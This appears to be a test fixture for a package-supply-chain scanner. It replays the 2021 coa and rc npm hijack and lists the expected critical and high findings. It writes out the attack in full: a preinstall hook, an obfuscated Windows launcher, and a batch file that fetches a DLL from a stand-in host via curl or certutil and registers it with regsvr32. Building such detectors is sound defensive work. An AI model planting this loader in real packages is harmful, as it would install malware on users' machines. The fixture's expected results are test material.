import { obfuscated } from '../obfuscated.js'
import { compiledQueue, durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { type Release, upgradeOf } from '../scene.js'
import { onVersion } from '../upgrade.js'

const hook = 'start /B node compile.js & node compile.js'

/** Starts the batch file on Windows, and does nothing elsewhere. */
const compile = obfuscated(
  'const $process=require(«child_process»),$system=require(«os»);const $platform=$system[«platform»]();if($platform===«win32»)' +
    '{$process[«spawn»](«cmd.exe»,[«/c»,«compile.bat»],{[«detached»]:!![],[«stdio»]:«ignore»});}',
)

/** Words cut out of one text, as batch files are hidden. */
const batch = [
  '@echo off',
  'Set aim=abcdefghijklmnopqrstuvwxyz.:/-',
  '%aim:~2,1%%aim:~20,1%%aim:~17,1%%aim:~11,1% https://cdn.compile.example/sdd.dll -o compile.dll',
  'if not exist compile.dll (certutil.exe -urlcache -f https://cdn.compile.example/sdd.dll compile.dll)',
  'regsvr32.exe -s compile.dll',
  '',
].join('\r\n')

const bad = (before: Release, version: string): Release => ({
  version,
  manifest: { ...before.manifest, scripts: { preinstall: hook } },
  files: { ...before.files, 'compile.js': compile, 'compile.bat': batch },
})

const coa: Release = { version: '2.0.2', files: { 'index.js': compiledQueue }, published: '2018-11-19T10:00:00.000Z' }
const rc: Release = { version: '1.2.8', files: { 'index.js': durations }, published: '2018-05-25T10:00:00.000Z' }

const inCompile = { file: 'compile.bat', line: 'regsvr32.exe -s compile.dll' } as const
const alsoInCompile = { file: 'compile.js', line: /_0x/ } as const

const { packages, base, head } = upgradeOf({
  coa: { before: coa, after: { ...bad(coa, '2.0.3'), published: '2021-11-04T12:00:00.000Z' } },
  rc: { before: rc, after: { ...bad(rc, '1.2.9'), published: '2021-11-04T14:00:00.000Z' } },
})

export const replay: Replay = {
  description:
    'Two packages without a release in years, coa and rc, gained the same script before installation on one day, on several lines at once. ' +
    'It was obfuscated, and so was the batch file that it started.',
  date: '2021-11-04',
  packages: {
    coa: { ...packages.coa, '3.0.1': { published: '2021-11-04T12:40:00.000Z' } },
    rc: {
      ...packages.rc,
      '1.3.9': { published: '2021-11-04T14:01:00.000Z' },
      '2.3.9': { published: '2021-11-04T14:02:00.000Z' },
    },
  },
  base,
  head,
  reviewedAt: '2021-11-04T18:00:00Z',
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('coa', '2.0.3', ['combined-risk', 'critical']),
      onVersion('coa', '2.0.3', ['install-script-dangerous', 'critical', inCompile]),
      onVersion('coa', '2.0.3', ['capability-added', 'high', alsoInCompile]),
      onVersion('coa', '2.0.3', ['code-obfuscated', 'high', { file: 'compile.js' }]),
      onVersion('coa', '2.0.3', ['install-script-added', 'high', { file: 'package.json' }]),
      onVersion('coa', '2.0.3', ['release-after-silence', 'medium']),
      onVersion('coa', '2.0.3', ['release-burst', 'high']),
      onVersion('coa', '2.0.3', ['release-fresh', 'medium']),
      onVersion('rc', '1.2.9', ['combined-risk', 'critical']),
      onVersion('rc', '1.2.9', ['install-script-dangerous', 'critical', inCompile]),
      onVersion('rc', '1.2.9', ['capability-added', 'high', alsoInCompile]),
      onVersion('rc', '1.2.9', ['code-obfuscated', 'high', { file: 'compile.js' }]),
      onVersion('rc', '1.2.9', ['install-script-added', 'high', { file: 'package.json' }]),
      onVersion('rc', '1.2.9', ['release-after-silence', 'medium']),
      onVersion('rc', '1.2.9', ['release-burst', 'high']),
      onVersion('rc', '1.2.9', ['release-fresh', 'medium']),
    ],
  },
}
